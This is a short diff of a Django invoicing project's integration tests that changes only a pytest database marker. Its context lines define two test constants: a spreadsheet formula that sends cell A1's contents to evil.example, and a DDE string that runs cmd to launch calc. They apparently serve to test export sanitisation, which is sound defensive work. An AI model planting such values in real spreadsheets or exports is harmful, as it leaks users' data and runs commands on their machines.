@@ -25,7 +25,7 @@ from fapiao.invoicing.red_invoices import invoice_issue_red
 from fapiao.invoicing.services import invoice_issue
 from tests.integration.world import World, make_world
 
-pytestmark = pytest.mark.django_db(transaction=True)
+pytestmark = pytest.mark.django_db
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
